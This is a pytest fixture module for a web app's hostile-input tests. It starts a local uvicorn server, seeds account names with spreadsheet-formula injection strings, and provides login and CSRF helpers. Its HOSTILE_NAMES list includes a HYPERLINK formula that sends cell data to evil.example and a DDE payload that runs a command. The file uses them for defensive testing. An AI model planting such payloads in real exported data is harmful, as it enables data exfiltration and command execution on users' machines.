"""A real server for the hostile-input tests: the test company, with customer names that
try to be spreadsheet formulas, served by uvicorn on 127.0.0.1 (own port, own thread)."""

from __future__ import annotations

import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest

from tests.web.webdata import PASSWORD, add_scores, add_users, build_frames, make_project

# what account names and segments of a hostile data file look like
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class LiveServer:
    """uvicorn serving ``app`` on 127.0.0.1 in a background thread."""

    def __init__(self, app: Any, **options: Any) -> None:
        import uvicorn

        self.app = app
        self.port = free_port()
        config = uvicorn.Config(
            app, host="127.0.0.1", port=self.port, log_level="warning", **options
        )
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> LiveServer:
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            if time.monotonic() > deadline or not self.thread.is_alive():
                raise RuntimeError("the web app did not start on 127.0.0.1")
            time.sleep(0.05)
        return self

    def stop(self) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=10)


def hostile_frames() -> dict[str, pd.DataFrame]:
    frames = build_frames()
    accounts = frames["accounts"].copy()
    for i in range(len(accounts)):
        if i % 2 == 0:
            accounts.loc[i, "name"] = HOSTILE_NAMES[(i // 2) % len(HOSTILE_NAMES)]
    accounts.loc[0, "segment"] = "=1+2"
    frames["accounts"] = accounts
    return frames


@pytest.fixture(scope="session")
def sec_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = make_project(tmp_path_factory.mktemp("sec") / "proj", hostile_frames())
    add_users(folder)
    add_scores(folder)
    return folder


@pytest.fixture(scope="session")
def live(sec_project: Path) -> Iterator[LiveServer]:
    from cxpulse.web import create_app

    server = LiveServer(create_app(sec_project)).start()
    yield server
    server.stop()


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "page has no CSRF field"
    return found.group(1)


def signed_in(base_url: str, email: str, password: str = PASSWORD) -> httpx.Client:
    """An httpx client holding a session cookie of ``email``."""
    client = httpx.Client(base_url=base_url, follow_redirects=False, timeout=30)
    page = client.get("/login")
    answer = client.post(
        "/login",
        data={"email": email, "password": password, "next": "/", "csrf_token": csrf_of(page.text)},
    )
    assert answer.status_code == 303, answer.text
    return client


def store_url_of(project: Path) -> str:
    return f"sqlite:///{project / 'cxpulse.sqlite'}"


def new_user(project: Path, email: str, role: str = "analyst") -> int:
    """A user of its own for one test (lockouts and revocations touch nobody else)."""
    from cxpulse import store

    with store.session(store_url_of(project)) as s:
        return store.create_user(s, email, PASSWORD, role=role).id


def sign_in_attempt(client: httpx.Client, email: str, password: str) -> httpx.Response:
    page = client.get("/login")
    return client.post(
        "/login",
        data={"email": email, "password": password, "next": "/", "csrf_token": csrf_of(page.text)},
    )
